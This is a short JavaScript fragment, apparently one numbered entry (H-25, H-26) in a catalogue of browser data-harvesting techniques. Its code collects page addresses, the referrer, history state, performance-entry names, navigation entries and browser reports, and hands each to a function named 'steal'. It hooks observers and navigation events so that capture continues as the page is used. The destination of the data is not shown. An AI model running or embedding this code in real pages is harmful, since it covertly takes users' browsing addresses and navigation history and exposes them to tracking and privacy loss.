// H-25, H-26: what the browser itself writes down: addresses, timings, reports, where the page is being taken.

const look = () => steal("records", location.href, document.URL, document.referrer, document.baseURI, history.state, performance.getEntries().map(({ name }) => name), window.navigation?.entries().map(({ url }) => url));
new PerformanceObserver(look).observe({ entryTypes: ["navigation", "resource", "mark", "measure"] });
new ReportingObserver((reports) => steal("report", reports), { buffered: true }).observe();
window.navigation?.addEventListener("navigate", ({ destination }) => steal("navigate", destination.url));
for await (const _ of rounds(20)) look();
